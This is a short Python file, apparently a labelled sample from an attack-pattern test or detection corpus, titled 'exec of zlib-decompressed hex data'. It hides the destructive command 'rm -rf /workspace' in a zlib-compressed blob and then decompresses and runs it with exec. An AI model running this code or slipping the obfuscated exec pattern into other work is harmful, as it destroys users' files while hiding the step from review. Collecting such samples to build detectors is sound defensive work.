# attack-class: 8
# title: exec of zlib-decompressed hex data
# why: a compressed blob is decoded and executed

import zlib

blob = zlib.compress(b"import os\nos.system('rm -rf /workspace')\n")
exec(zlib.decompress(blob).decode())
